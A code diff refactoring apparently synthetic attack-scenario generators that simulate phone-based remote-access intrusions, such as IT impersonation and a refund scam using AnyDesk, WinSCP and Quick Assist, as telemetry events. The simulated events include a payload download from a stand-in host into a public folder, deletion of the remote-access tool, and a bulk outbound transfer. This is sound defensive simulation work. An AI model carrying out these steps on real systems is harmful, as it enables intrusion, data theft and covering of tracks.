@@ -19,29 +19,22 @@ import { MINUTE_MS, SECOND_MS } from '../../../../standalone/generator/local_tim
 import { atDesk, hasHost } from '../../../../standalone/generator/near_misses/near_miss';
 import { AUSTIN, BERLIN } from '../../../../standalone/generator/sites';
 import { anyDesk } from '../more_events';
-import { callFromOutside, onComputer, quietFor, type CampaignMaker } from './campaign';
+import { onComputer, oneCallAttack, type CampaignMaker } from './campaign';
 
 /** Luna Moth since March 2025: a caller "from our IT", portable AnyDesk and WinSCP, no malware (FBI FLASH, May 2026). */
 export const itImpersonationAnyDesk: CampaignMaker = ({ random, callStartMs, take }) => {
-  const id = 'it_impersonation_anydesk';
   const victim = atDesk(
     take((person) => ['Legal', 'Human resources'].includes(person.department) && hasHost(person))
   );
   const at = onComputer(random, victim, callStartMs);
   const tool = anyDesk(victim.account);
   const copier = winScp(victim.account);
-  return {
-    id,
+  return oneCallAttack({
+    id: 'it_impersonation_anydesk',
     callStartMs,
-    people: [victim],
-    calls: [
-      callFromOutside(id, {
-        startMs: callStartMs,
-        minutes: 22,
-        employee: victim,
-        number: '+12025550161',
-      }),
-    ],
+    victim,
+    minutes: 22,
+    number: '+12025550161',
     events: [
       dnsLookup(at(4), EDGE, 'download.anydesk.com'),
       browserDownload(at(5), EDGE, {
@@ -59,43 +52,33 @@ export const itImpersonationAnyDesk: CampaignMaker = ({ random, callStartMs, tak
         sentBytes: 2_301_220_400,
       }),
     ],
-    quiet: quietFor(callStartMs, [victim]),
-  };
+  });
 };
 
 /** Refund scam (CISA AA23-025A): a "bank" calls an employee, who starts AnyDesk; it ends without any move to other computers. */
 export const bankRefundAnyDesk: CampaignMaker = ({ random, callStartMs, take }) => {
-  const id = 'bank_refund_anydesk';
   const victim = atDesk(
     take((person) => person.site === BERLIN && person.roles.length === 0 && hasHost(person))
   );
   const at = onComputer(random, victim, callStartMs);
   const tool = anyDesk(victim.account);
-  return {
-    id,
+  return oneCallAttack({
+    id: 'bank_refund_anydesk',
     callStartMs,
-    people: [victim],
-    calls: [
-      callFromOutside(id, {
-        startMs: callStartMs,
-        minutes: 35,
-        employee: victim,
-        number: '+4917139200' + '77',
-      }),
-    ],
+    victim,
+    minutes: 35,
+    number: '+4917139200' + '77',
     events: [
       dnsLookup(at(7), EDGE, 'anydesk.com'),
       processStart(at(9), tool),
       dnsLookup(at(12), EDGE, 'banking.example.org'),
       processStart(at(33), CMD, { args: '/c del AnyDesk.exe' }),
     ],
-    quiet: quietFor(callStartMs, [victim]),
-  };
+  });
 };
 
 /** 3AM (Sophos, first quarter of 2025): 24 mails in 3 minutes, then a call that shows the IT department's own number. */
 export const ownNumberQuickAssist: CampaignMaker = ({ random, company, callStartMs, take }) => {
-  const id = 'own_number_quick_assist';
   const victim = atDesk(
     take((person) => person.site === AUSTIN && person.roles.length === 0 && hasHost(person))
   );
@@ -104,18 +87,12 @@ export const ownNumberQuickAssist: CampaignMaker = ({ random, company, callStart
   );
   if (shown === undefined) throw new Error('The company has no IT in Austin.');
   const at = onComputer(random, victim, callStartMs);
-  return {
-    id,
+  return oneCallAttack({
+    id: 'own_number_quick_assist',
     callStartMs,
-    people: [victim],
-    calls: [
-      callFromOutside(id, {
-        startMs: callStartMs,
-        minutes: 19,
-        employee: victim,
-        number: shown.did,
-      }),
-    ],
+    victim,
+    minutes: 19,
+    number: shown.did,
     events: [
       ...Array.from({ length: 24 }, (_, nth) =>
         mailDelivered(random, {
@@ -134,6 +111,5 @@ export const ownNumberQuickAssist: CampaignMaker = ({ random, company, callStart
         args: '-o C:\\Users\\Public\\vm.zip https://files.example.net/vm.zip',
       }),
     ],
-    quiet: quietFor(callStartMs, [victim]),
-  };
+  });
 };
